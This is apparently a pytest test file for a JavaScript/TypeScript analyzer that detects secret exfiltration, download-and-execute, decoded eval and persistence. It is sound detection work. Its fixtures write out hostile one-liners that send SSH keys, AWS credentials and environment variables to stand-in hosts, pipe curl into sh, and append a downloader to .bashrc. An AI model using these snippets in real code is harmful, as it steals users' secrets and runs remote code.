"""JavaScript and TypeScript: what flows where, and that no text breaks the parser."""

from __future__ import annotations

import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluicegate.vet.inspect.analyzers.javascript import JavaScriptAnalyzer
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import View
from sluicegate.vet.verdict.types import GapReason, Severity

ANALYZER = JavaScriptAnalyzer()


def inspect(text: str, kind: Kind = Kind.JAVASCRIPT) -> Inspected:
    artifact = Artifact(path="run.js", data=text.encode("utf-8", "replace"), mode=0, kind=kind)
    bundle = Bundle(name="b", root="", artifacts=(artifact,), gaps=(), anomalies=())
    view = View(artifact=artifact, text=text, language=kind)
    return ANALYZER.inspect(Subject(bundle=bundle, views=(view,)))


def hits(text: str, kind: Kind = Kind.JAVASCRIPT) -> dict[str, Severity | None]:
    return {match.rule: match.severity for match in inspect(text, kind).matches}


SENT = [
    "fetch('https://e.example.com', {method: 'POST', body: JSON.stringify(process.env)})",
    "const fs = require('fs'), os = require('os'), path = require('path');"
    "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));"
    "fetch('https://e.example.com', {method: 'POST', body: k})",
    "import {readFile} from 'node:fs/promises'; import axios from 'axios';"
    "const d = await readFile(`${process.env.HOME}/.aws/credentials`); await axios.post('https://e.example.com', {d});",
    "const http = require('http'); const req = http.request({hostname: '192.0.2.3'}); req.write(JSON.stringify(process.env));",
    "const {env} = process; const ws = new WebSocket('wss://e.example.com'); ws.send(JSON.stringify(env));",
    "function up(x) { return fetch('https://e.example.com', {body: x}) } up(require('fs').readFileSync('/home/a/.netrc'))",
    "for (const [k, v] of Object.entries(process.env)) { fetch(`https://e.example.com/?${k}=${v}`) }",
    "const read = () => require('fs').readFileSync('/root/.npmrc'); const t = read(); fetch('https://e.example.com', {body: t})",
    "navigator.clipboard.readText().then(t => fetch('https://e.example.com', {method: 'POST', body: t}))",
    "require('child_process').execSync('cat ~/.ssh/id_rsa | curl -d @- https://e.example.com')",
    "import * as fs from 'fs'; fs.readFile('/root/.ssh/id_rsa', (e, d) => { fetch('https://e.example.com', {body: d}) })",
]


@pytest.mark.parametrize("text", SENT)
def test_a_secret_is_followed_to_the_network(text: str) -> None:
    assert hits(text)["js-secret-to-network"] is Severity.CRITICAL


def test_typescript_is_followed_too() -> None:
    text = (
        "const all: Record<string, string | undefined> = process.env;\n"
        "export async function go<T>(x: T): Promise<void> {\n"
        "  await fetch('https://e.example.com', { method: 'POST', body: JSON.stringify(all) });\n}\n"
    )
    assert hits(text, Kind.TYPESCRIPT) == {"js-secret-to-network": Severity.CRITICAL}


@pytest.mark.parametrize(
    "text",
    [
        "await fetch('https://api.example.com', {headers: {Authorization: `Bearer ${process.env.SERVICE_API_KEY}`}})",
        "spawn('npm', ['install'], {env: process.env}); JSON.parse(fs.readFileSync('package.json'))",
        "const {PORT, DB_URL} = process.env; fetch(`http://localhost:${PORT}`)",
        "const config = {...process.env}; fetch(config.API_URL)",
        "const re = /x/; re.exec(text); fetch('/api/x').then(r => r.json()).then(d => setData(d))",
        "const image = Buffer.from(answer.b64, 'base64'); fs.writeFileSync('out.png', image)",
        "const lib = require('./lib'); lib.run(require('os').homedir())",
    ],
)
def test_ordinary_programs_are_no_finding(text: str) -> None:
    assert hits(text) == {}


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("fetch('https://e.example.com/p').then(r => r.text()).then(t => eval(t))", Severity.HIGH),
        ("const https = require('https'); https.get('https://e.example.com', res => { let b = '';"
         "res.on('data', d => b += d); res.on('end', () => eval(b)) })", Severity.HIGH),
        ("const {execSync} = require('child_process'); execSync('curl -s http://192.0.2.1/x | sh')", Severity.CRITICAL),
        ("const m = await import('https://e.example.com/x.mjs')", Severity.HIGH),
    ],
)  # fmt: skip
def test_a_download_is_followed_to_what_runs_it(text: str, severity: Severity) -> None:
    assert hits(text)["js-download-to-exec"] is severity


def test_a_decoded_text_is_followed_to_what_runs_it() -> None:
    assert hits("eval(atob('YWxlcnQoMSk='))") == {"js-decoded-to-exec": Severity.CRITICAL}
    text = "const s = Buffer.from('aGVsbG8=', 'base64').toString(); new Function(s)();"
    assert hits(text) == {"js-decoded-to-exec": Severity.CRITICAL}


def test_writing_to_a_login_script_is_persistence() -> None:
    text = "const fs = require('fs'); fs.appendFileSync(require('os').homedir() + '/.bashrc', 'curl http://192.0.2.1|sh')"
    assert hits(text) == {"js-persistence": Severity.HIGH}


def test_capabilities_name_hosts_commands_files_and_variables() -> None:
    seen = inspect(
        "const fs = require('fs');\nfetch('https://api.example.com', {headers: {k: process.env.MY_KEY}});\n"
        "require('child_process').spawn('git', ['log']);\nfs.writeFileSync('out.json', fs.readFileSync('in.json'));\n"
    )
    assert {c.name for c in seen.capabilities} >= {
        "net:api.example.com", "env:MY_KEY", "cmd:git", "fs:w:out.json", "fs:r:in.json",
    }  # fmt: skip


def test_places_count_characters_and_not_bytes() -> None:
    text = "// é ü ß 漢字\nfetch('https://e.example.com', {body: JSON.stringify(process.env)})\n"
    (match,) = inspect(text).matches
    assert text[match.start : match.end].startswith("fetch(")


@pytest.mark.parametrize(
    "unit", ["(", "[a,", "{a:", "a=>", "`${", "x<y,", ")!&>}", "if(>]is yield ", "'\ny", "|<!--in \n", "a."]
)
@pytest.mark.parametrize("kind", [Kind.JAVASCRIPT, Kind.TYPESCRIPT])
def test_hostile_text_ends_soon_and_is_a_gap_where_it_was_not_read(unit: str, kind: Kind) -> None:
    seen = inspect("eval(x);" + unit * (16_000 // len(unit)), kind)
    assert all(gap.reason is GapReason.ANALYSIS_LIMIT for gap in seen.gaps)


def test_a_chain_of_members_takes_no_more_memory_than_its_text() -> None:
    text = "eval" + ".eval" * 8_000
    tracemalloc.start()
    try:
        inspect(text)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 2_000 * len(text)  # with a name for each member it was half a gigabyte


def test_a_broken_text_is_still_followed() -> None:
    assert "js-decoded-to-exec" in hits(
        "const a = {{ template }};\nfoo(\n" + SENT[0] + ";\neval(atob('YWxlcnQoMSk='));\n"
    )


PIECES = st.sampled_from(
    ["fetch(", "eval(", "process.env", ")", "(", "{", "}", "[", "]", "=>", "=", "const a", "a", ".", ",", ";", "\n", "`", "${", "'", '"',
     "require('fs')", ".readFileSync('/root/.ssh/id_rsa')", "for (const [k] of ", "import x from 'y'", "function f(x) ", "return ",
     "new ", "async ", "await ", "<div>", "é", "...", "?", ":"]
)  # fmt: skip


@settings(max_examples=120, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join), st.sampled_from([Kind.JAVASCRIPT, Kind.TYPESCRIPT]))
def test_any_text_is_read_and_always_the_same_way(text: str, kind: Kind) -> None:
    first = inspect(text, kind)
    assert inspect(text, kind) == first
    for match in first.matches:
        assert 0 <= match.start < match.end <= len(text)
